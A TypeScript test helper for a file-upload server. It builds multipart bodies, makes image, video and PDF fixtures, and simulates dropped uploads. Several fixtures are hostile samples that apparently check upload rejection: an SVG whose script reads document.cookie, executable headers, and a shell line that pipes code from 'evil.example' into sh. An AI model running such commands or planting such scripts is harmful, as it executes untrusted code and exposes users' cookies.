import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { type AddressInfo, connect } from 'node:net';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { expect } from 'vitest';
import { samplePdf } from '../src/modules/assets/templates/pdf.js';

export type FilePart = { name: string; body: Buffer | string; type?: string; field?: string };

/** A multipart/form-data body (field `files` unless told) and its content-type header, for app.inject. */
export function multipart(files: FilePart[]) {
  const boundary = `----foyer-test-${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const f of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${f.field ?? 'files'}"; filename="${f.name}"\r\n` +
          `Content-Type: ${f.type ?? 'application/octet-stream'}\r\n\r\n`,
      ),
      Buffer.isBuffer(f.body) ? f.body : Buffer.from(f.body),
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(chunks),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const solid = (width: number, height: number, alpha = false) =>
  sharp({
    create: {
      width,
      height,
      channels: alpha ? 4 : 3,
      background: alpha ? { r: 40, g: 120, b: 200, alpha: 0.5 } : { r: 200, g: 80, b: 40 },
    },
  });

/** Small real files of each type, made once per test file. */
export async function mediaFixtures() {
  return {
    png: await solid(640, 400, true).png().toBuffer(),
    bigPng: await solid(2400, 1200).png().toBuffer(),
    jpeg: await solid(800, 600).jpeg().toBuffer(),
    gif: await solid(300, 200).gif().toBuffer(),
    /** Two frames of 60x40, red then blue. */
    animatedGif: await sharp(
      Buffer.concat([
        await solid(60, 40).raw().toBuffer(),
        await sharp({ create: { width: 60, height: 40, channels: 3, background: '#00f' } })
          .raw()
          .toBuffer(),
      ]),
      { raw: { width: 60, height: 80, channels: 3, pageHeight: 40 } },
    )
      .gif()
      .toBuffer(),
    svg: '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60"><rect width="120" height="60" fill="#3182ce"/><circle cx="30" cy="30" r="20" fill="#fff"/></svg>',
    svgWithScript:
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
    pdf: samplePdf(),
    mp4: readFileSync(
      fileURLToPath(new URL('../src/modules/assets/templates/sample-venue-loop.mp4', import.meta.url)),
    ),
    /** The start of an ELF executable. */
    elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]),
    /** The start of a Windows executable (MZ … PE). */
    exe: (() => {
      const b = Buffer.alloc(256);
      b.write('MZ', 0, 'latin1');
      b.writeUInt32LE(0x80, 0x3c);
      b.write('PE\0\0', 0x80, 'latin1');
      return b;
    })(),
    shell: '#!/bin/sh\ncurl http://evil.example/x | sh\n',
  };
}

/**
 * Sends a multipart upload over a real connection and drops the connection mid-body, once the
 * server has started spooling it (something appeared in `spoolDir`).
 */
export async function abandonUpload(
  app: FastifyInstance,
  spoolDir: string,
  request: { url: string; headers: Record<string, string>; payload: Buffer },
): Promise<void> {
  if (!app.server.listening) await app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = app.server.address() as AddressInfo;
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  const head = Object.entries({
    ...request.headers,
    host: `127.0.0.1:${port}`,
    'content-length': request.payload.length,
  })
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
  socket.write(`POST ${request.url} HTTP/1.1\r\n${head}\r\n`);
  socket.write(request.payload.subarray(0, Math.floor(request.payload.length / 2)));
  await expect.poll(() => readdir(spoolDir).catch(() => []), { timeout: 10_000 }).not.toEqual([]);
  socket.destroy();
}
